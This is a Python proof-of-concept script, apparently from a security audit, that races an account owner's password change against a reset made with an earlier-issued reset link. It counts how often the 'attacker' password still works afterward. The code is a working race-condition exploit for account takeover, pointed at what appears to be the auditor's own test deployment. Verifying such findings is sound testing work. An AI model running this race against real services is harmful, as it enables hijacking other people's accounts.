"""Finding 3 variation: the owner's password change (on A) and a reset with a link asked before it
(on B), fired together. Bad: the reset answers 200 AND its password is the one that works at the end
(a link outliving the change that should have ended it). Usage: BASE=A BASE2=B DATA=… reset_race.py ROUNDS"""
import os, sys, threading, time, uuid, requests, email as em
from lib12 import *
B2 = os.environ.get("BASE2", BASE); ROUNDS = int(sys.argv[1]) if len(sys.argv) > 1 else 10
def anon(path, base=BASE):
    s = requests.Session(); return s, csrf(s.get(base + path).text)
def forgot(e):
    n0 = len(eml_files()); s, t = anon("/forgot-password")
    s.post(BASE + "/forgot-password", data={"csrf_token": t, "email": e}, allow_redirects=False)
    for _ in range(60):
        time.sleep(0.2)
        for f in reversed(eml_files()[n0:]):
            m = em.message_from_bytes(open(f, "rb").read())
            if m["To"] == e and m["Subject"] == "Reset your password":
                return link_in(f, "reset-password")
def signin(e, pw):
    s, t = anon("/login"); return s.post(BASE + "/login", data={"csrf_token": t, "email": e, "password": pw}, allow_redirects=False).status_code
out = {}
for rnd in range(ROUNDS):
    e = f"rr{uuid.uuid4().hex[:6]}@mail.test"
    s, t = anon("/signup"); s.post(BASE + "/signup", data={"csrf_token": t, "email": e, "password": PW, "organization": "RR"})
    link = forgot(e); tok = urllib.parse.parse_qs(urllib.parse.urlparse(link).query)["token"][0]
    u = login(e); ut = token_of(u, "/account/password"); a, at = anon("/forgot-password", B2)
    bar = threading.Barrier(2); res = {}
    def change():
        bar.wait(); res["c"] = post(u, "/account/password", {"csrf_token": ut, "current_password": PW, "new_password": "owner new pass 123456"}).status_code
    def reset():
        bar.wait(); time.sleep((rnd % 4) * 0.003)
        res["r"] = a.post(B2 + "/reset-password", data={"csrf_token": at, "token": tok, "new_password": "attacker pass 1234567"}, allow_redirects=False).status_code
    th = [threading.Thread(target=change), threading.Thread(target=reset)]; [x.start() for x in th]; [x.join() for x in th]
    o = (res["c"], res["r"], "owner's pw", signin(e, "owner new pass 123456"), "attacker's pw", signin(e, "attacker pass 1234567"))
    out[o] = out.get(o, 0) + 1
print("(change, reset, sign-in owner's new, sign-in attacker's) -> count")
for o, n in sorted(out.items(), key=str): print("   ", o, n)
